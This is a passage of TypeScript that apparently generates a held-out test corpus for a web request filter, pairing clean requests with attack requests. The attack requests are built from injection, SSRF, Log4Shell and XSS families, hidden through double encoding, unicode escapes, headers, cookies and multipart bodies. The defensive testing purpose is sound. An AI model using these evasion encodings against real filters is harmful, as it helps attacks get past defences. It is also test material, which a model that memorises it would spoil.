          family: fam.name,
          technique,
        };
      }
      const host = hostFor(PLAIN_HOSTS, fam);
      const enc = variant === 1 ? encodeURIComponent(t) : encodeURIComponent(encodeURIComponent(t));
      if (variant === 3) {
        const base = JSON.stringify(host.wrap(PH));
        const body = base.replace(
          JSON.stringify(PH),
          uescapeJson(JSON.stringify(encodeURIComponent(t)), 'special'),
        );
        return {
          kind: host.kind,
          family: fam.name,
          technique,
          method: host.method,
          path: host.path(),
          headers: hdrs(client, 'application/json'),
          body,
        };
      }
      return { ...jsonAttack(fam, technique, host, enc, client) };
    }
    case 'query-param': {
      const q = hostFor(QUERY, fam);
      const v = nextValue(fam);
      const pairs = pairsFor(fam, q.param, v);
      const style = int(0, 2);
      let enc: string;
      if (style === 0) enc = qs(pairs, true);
      else if (style === 1) enc = form_(pairs);
      else
        enc = pairs
          .map(
            ([k, x]) =>
              `${k}=${x.replace(/ /g, '%20').replace(/#/g, '%23').replace(/&/g, '%26').replace(/\+/g, '%2B')}`,
          )
          .join('&');
      const extra = q.extra.length ? `&${qs(q.extra)}` : '';
      return { ...getreq('search', `${q.path}?${enc}${extra}`, client), family: fam.name, technique };
    }
    case 'header': {
      const name = pick(fam.headers);
      let t = asText(nextValue(fam));
      if (!/^[\x20-\x7e]*$/.test(t)) t = encodeURIComponent(t);
      const scanner = pick([
        'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36',
        'Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))',
        'sqlmap/1.8.11#stable (https://sqlmap.org)',
        'Fuzz Faster U Fool v2.1.0-dev',
      ]);
      const h: Hdrs = { 'user-agent': scanner, accept: '*/*', authorization: `Bearer ${jwt()}` };
      h[name] = t;
      return {
        kind: 'search',
        family: fam.name,
        technique,
        method: 'GET',
        path: pick(HEADER_HOSTS),
        headers: h,
        body: '',
      };
    }
    case 'cookie': {
      const v = nextValue(fam);
      let val = asText(v);
      if (fam.name === 'nosql' || fam.name === 'prototype-pollution') val = `j:${val}`;
      val =
        /[;,\s"\\]|[^\x20-\x7e]/.test(val) && chance(0.7)
          ? encodeURIComponent(val)
          : val.replace(/;/g, '%3B').replace(/[^\x20-\x7e]/g, (c) => encodeURIComponent(c));
      const h = hdrs('browser', null);
      h.cookie = `sid=${b64url(bytes(24))}; ${COOKIE_NAMES[fam.name] ?? 'pref'}=${val}; theme=dark`;
      return {
        kind: 'search',
        family: fam.name,
        technique,
        method: 'GET',
        path: pick(HEADER_HOSTS),
        headers: h,
        body: '',
      };
    }
    case 'form': {
      const f = hostFor(FORMS, fam);
      const pairs: Array<readonly [string, string]> = [
        ['authenticity_token', b64url(bytes(32))],
        ...f.fields,
        ...pairsFor(fam, f.field, nextValue(fam)),
      ];
      return {
        kind: 'form',
        family: fam.name,
        technique,
        method: 'POST',
        path: f.path,
        headers: hdrs(pick<Client>(['browser', 'lib']), 'application/x-www-form-urlencoded'),
        body: form_(pairs),
      };
    }
    case 'multipart': {
      const m = hostFor(MULTI, fam);
      const v = nextValue(fam);
      const parts: Part[] = m.fields.map(([name, value]) => ({ name, value }));
      if (m.field === '@filename') parts.push({ ...m.file, filename: asText(v) });
      else {
        for (const [name, value] of pairsFor(fam, m.field, v)) parts.push({ name, value });
        parts.push(m.file);
      }
      const mp = multipart(parts, chance(0.5));
      return {
        kind: 'multipart',
        family: fam.name,
        technique,
        method: 'POST',
        path: m.path(),
        headers: hdrs(client, mp.ct),
        body: mp.body,
      };
    }
    default:
      throw new Error(`unknown technique ${technique}`);
  }
}

const TECHNIQUES = [
  'plain',
  'nested',
  'key',
  'array',
  'unicode-escape',
  'json-in-string',
  'base64',
  'graphql-variable',
  'double-encoded',
  'query-param',
  'header',
  'cookie',
  'form',
  'multipart',
] as const;
const EXTRA: Record<string, Partial<Record<(typeof TECHNIQUES)[number], number>>> = {
  sql: { 'query-param': 3, nested: 2, 'graphql-variable': 1, form: 1 },
  nosql: { key: 3, plain: 2, 'query-param': 2 },
  template: { plain: 2, nested: 1, 'json-in-string': 1 },
  command: { plain: 2, 'json-in-string': 1, multipart: 1 },
  'path-traversal': { 'query-param': 2, multipart: 2, plain: 1 },
  ssrf: { plain: 3, nested: 2, 'graphql-variable': 1 },
  'prototype-pollution': { key: 3, nested: 2, 'json-in-string': 1 },
  log4shell: { header: 4, plain: 1, nested: 1 },
  xss: { plain: 2, nested: 2, form: 1 },
};

for (const fam of FAMILIES) {
  for (const t of TECHNIQUES) {
    const n = 2 + (EXTRA[fam.name]?.[t] ?? 0);
    for (let i = 0; i < n; i++) attacks.push(attack(fam, t));
  }
}

function withIds(prefix: string, rs: readonly Req[]): CorpusRequest[] {
  return rs.map((r, i) => {
    const id = `${prefix}${i + 1}`;
    const { kind, method, path, headers, body } = r;
    if (r.family === undefined) return { id, kind, method, path, headers, body };
    return { id, kind, family: r.family, technique: r.technique, method, path, headers, body };
  });
}

/** The held-out corpus 7: `clean` must pass the API profile, `attacks` must be refused. */
export const heldout7: { readonly clean: CorpusRequest[]; readonly attacks: CorpusRequest[] } = {
  clean: withIds('h7c', clean),
  attacks: withIds('h7a', attacks),
};

if (import.meta.main) {
  const dir = dirname(fileURLToPath(import.meta.url));
  writeFileSync(join(dir, 'clean-heldout7.json'), `${JSON.stringify(heldout7.clean, null, 2)}\n`);
  writeFileSync(join(dir, 'attacks-heldout7.json'), `${JSON.stringify(heldout7.attacks, null, 2)}\n`);
  process.stdout.write(`clean ${heldout7.clean.length}, attacks ${heldout7.attacks.length}\n`);
}
